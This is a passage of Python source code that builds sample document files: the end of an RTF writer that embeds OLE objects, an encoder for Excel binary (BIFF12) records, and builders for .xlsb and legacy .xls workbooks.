        update_word = r"\objupdate" if update else ""
        kind_word = r"\objautlink" if linked else r"\objemb"
        body.append(
            rf"{{\object{kind_word}{update_word}\objw1200\objh800{{\*\objclass {cls}}}{{\*\objdata"
            + "\n"
            + lines
            + "\n}}"
        )
    body.append("}")
    return "".join(body).encode("latin-1")


def _biff12(kind: int, payload: bytes = b"") -> bytes:
    """One record of an Excel binary workbook: its type and size as 7-bit varints, then its payload."""

    def varint(n: int) -> bytes:
        out = bytearray()
        while True:
            n, low = divmod(n, 128)
            out.append(low | (128 if n else 0))
            if not n:
                return bytes(out)

    return varint(kind) + varint(len(payload)) + payload


def xlsb(sheets: list[list[list[Cell]]]) -> bytes:
    """An Excel binary workbook (.xlsb): BIFF12 records in a zip. Text cells are shared strings (a
    BrtSSTItem each, UTF-16LE), number cells BrtCellReal (their format is left out: no style part)."""
    import struct

    strings: dict[str, int] = {}
    parts: list[tuple[str, bytes]] = []
    for k, sheet in enumerate(sheets, start=1):
        records = [_biff12(129), _biff12(145)]  # BrtBeginSheet, BrtBeginSheetData
        for r, row in enumerate(sheet):
            records.append(_biff12(0, struct.pack("<IIHBBI", r, 0, 300, 0, 0, 0)))  # BrtRowHdr
            for c, (value, fmt) in enumerate(row):
                cell = struct.pack("<I", c) + b"\x00\x00\x00\x00"  # column, style 0, no flags
                if fmt is None:
                    index = strings.setdefault(str(value), len(strings))
                    records.append(_biff12(7, cell + struct.pack("<I", index)))  # BrtCellIsst
                else:
                    records.append(_biff12(5, cell + struct.pack("<d", float(value))))  # BrtCellReal
        records += [_biff12(146), _biff12(130)]  # BrtEndSheetData, BrtEndSheet
        parts.append((f"xl/worksheets/sheet{k}.bin", b"".join(records)))
    sst = [_biff12(159, struct.pack("<II", len(strings), len(strings)))]  # BrtBeginSst
    for text in strings:  # BrtSSTItem: a RichStr, no rich runs: flags, then an XLWideString
        sst.append(_biff12(19, b"\x00" + struct.pack("<I", len(text)) + text.encode("utf-16-le")))
    sst.append(_biff12(160))  # BrtEndSst
    binary = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Default Extension="bin" ContentType="{binary}"/></Types>'
    )
    book = _biff12(131) + _biff12(143) + _biff12(144) + _biff12(132)  # begin/end book and bundle
    return zip_of(
        [
            ("[Content_Types].xml", types.encode()),
            ("xl/workbook.bin", book),
            *parts,
            ("xl/sharedStrings.bin", b"".join(sst)),
        ]
    )


def xls(sheets: list[list[list[Cell]]]) -> bytes:
    """A legacy workbook (BIFF8 in an OLE file, written by xlwt) whose number cells carry their formats."""
    import xlwt

    book = xlwt.Workbook()
    style_of: dict[str, object] = {}
    for k, sheet in enumerate(sheets):
        ws = book.add_sheet(f"Sheet {k + 1}")
        for r, row in enumerate(sheet):
            for c, (value, fmt) in enumerate(row):
                if fmt is None:
                    ws.write(r, c, str(value))
                else:
                    ws.write(r, c, value, style_of.setdefault(fmt, xlwt.easyxf(num_format_str=fmt)))
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()
